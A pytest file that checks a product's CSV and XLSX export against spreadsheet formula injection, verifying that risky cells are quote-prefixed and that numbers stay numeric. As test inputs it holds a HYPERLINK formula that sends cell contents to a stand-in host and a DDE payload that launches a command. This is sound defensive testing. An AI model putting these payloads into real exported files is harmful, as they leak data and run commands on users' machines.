"""No cell of a CSV or XLSX the product writes can run as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from sunshine.infra import spreadsheets
from sunshine.kernel.cells import neutral
from sunshine.kernel.cells import restored
from sunshine.kernel.cells import runs_as_formula

SRC = Path(spreadsheets.__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("'=1+1", "''=1+1"),  # a quote typed by someone keeps its meaning both ways
        ("-12.50", "-12.50"),  # a negative amount is a number, not a formula
        ("-9,618.58", "-9,618.58"),
        ("+3", "+3"),
        ("2024-10-05", "2024-10-05"),
        ("水费 -23.58", "水费 -23.58"),
        ("", ""),
    ],
)
def test_text_that_could_run_gets_a_quote_and_numbers_do_not(text: str, written: str) -> None:
    assert neutral(text) == written
    assert restored(written) == text


@given(st.text())
def test_the_quote_comes_off_again_and_nothing_written_could_run(text: str) -> None:
    assert restored(neutral(text)) == text
    assert not runs_as_formula(neutral(text))


def test_a_csv_keeps_numbers_as_numbers_and_quotes_formulas() -> None:
    data = spreadsheets.csv_bytes([["摘要", "金额", "分"], [HYPERLINK, "-12.50", -1250]])

    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["摘要", "金额", "分"], ["'" + HYPERLINK, "-12.50", "-1250"]]


def test_an_xlsx_writes_text_as_text_and_numbers_as_numbers() -> None:
    book = spreadsheets.new_workbook()
    sheet = spreadsheets.add_sheet(book, "账目", ["摘要", "金额", "分"])
    spreadsheets.append_row(sheet, [HYPERLINK, Decimal("-12.50"), -1250])
    spreadsheets.append_row(sheet, ["-12.50", None, "水费"])

    read = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(book)))["账目"]
    formula, amount, fen = read[2]
    assert (formula.value, formula.data_type, formula.quotePrefix) == (HYPERLINK, "s", True)
    assert (amount.value, amount.data_type) == (-12.5, "n")
    assert (fen.value, fen.data_type) == (-1250, "n")
    text_amount, empty, water = read[3]
    assert (text_amount.value, text_amount.data_type, text_amount.quotePrefix) == (
        "-12.50",
        "s",
        False,
    )
    assert empty.value is None
    assert water.value == "水费"
    assert read["A1"].font.bold


_OWN_WRITERS = re.compile(r"csv\.(?:writer|DictWriter)\(|\bWorkbook\(")


def test_every_csv_and_workbook_is_written_through_infra_spreadsheets() -> None:
    """A module that writes CSV or builds a workbook itself would skip the formula guard."""
    offenders = [
        str(path.relative_to(SRC))
        for path in sorted(SRC.rglob("*.py"))
        if path.name != "spreadsheets.py" and _OWN_WRITERS.search(path.read_text("utf-8"))
    ]
    assert offenders == []
